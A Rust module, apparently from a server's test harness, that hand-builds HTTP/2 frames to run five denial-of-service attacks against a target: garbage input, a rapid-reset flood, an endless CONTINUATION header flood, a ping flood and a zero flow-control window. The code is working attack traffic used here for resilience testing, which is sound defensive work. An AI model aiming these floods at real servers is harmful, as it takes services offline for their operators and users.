//! By HTTP/2, frame by frame.

use std::{io, net::Ipv4Addr, time::Duration};

use tokio::{io::AsyncWriteExt as _, time::timeout};

use super::{read_to_end, tcp::random};
use crate::{
    server::FILE,
    wire::{Target, Wire},
};

// Kinds of frames, and their flags (RFC 9113 §6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Says hello, and then nothing that makes sense.
pub(super) async fn garbage(target: Target, from: Ipv4Addr) -> io::Result<bool> {
    flood(target, from, &random(4000)).await
}

/// Asks, and takes it back at once.
pub(super) async fn rapid_reset(target: Target, from: Ipv4Addr) -> io::Result<bool> {
    let requests = (0..2000_u32).flat_map(|number| {
        let stream = number * 2 + 1;
        [get(stream, END_STREAM | END_HEADERS), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    });
    flood(target, from, &requests.collect::<Vec<u8>>()).await
}

/// Sends headers that do not end.
pub(super) async fn continuations(target: Target, from: Ipv4Addr) -> io::Result<bool> {
    let header = [&b"\x00\x01a\x7f\x81\x1e"[..], &[b'b'; 4000]].concat();
    let frames = [get(1, END_STREAM), frame(CONTINUATION, 0, 1, &header).repeat(100)].concat();
    flood(target, from, &frames).await
}

/// Has the server answer pings, and does not read the answers.
pub(super) async fn pings(target: Target, from: Ipv4Addr) -> io::Result<bool> {
    let mut wire = hello(&target, from, &[]).await?;
    // As much as the server takes.
    let frames = frame(PING, 0, 0, b"12345678").repeat(20_000);
    let _ = timeout(Duration::from_secs(2), wire.write_all(&frames)).await;
    Ok(true)
}

/// Asks for a lot, and lets nothing of it through.
pub(super) async fn shut_window(target: Target, from: Ipv4Addr) -> io::Result<bool> {
    const INITIAL_WINDOW_SIZE: u8 = 4;
    let mut wire = hello(&target, from, &[0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0]).await?;
    wire.write_all(&get(1, END_STREAM | END_HEADERS)).await?;
    wire.flush().await?;
    Ok(read_to_end(&mut wire).await < FILE)
}

/// Sends all this, and waits until the server has enough.
async fn flood(target: Target, from: Ipv4Addr, bytes: &[u8]) -> io::Result<bool> {
    let mut wire = hello(&target, from, &[]).await?;
    wire.write_all(bytes).await?;
    wire.flush().await?;
    read_to_end(&mut wire).await;
    Ok(true)
}

async fn hello(target: &Target, from: Ipv4Addr, settings: &[u8]) -> io::Result<Wire> {
    let mut wire = target.http2(from).await?;
    wire.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).await?;
    Ok(wire)
}

/// `GET /file`, with none of its headers compressed (RFC 7541 §6).
fn get(stream: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, flags, stream, b"\x82\x86\x04\x05/file\x01\x09localhost")
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length, &[kind, flags][..], &stream.to_be_bytes(), payload].concat()
}
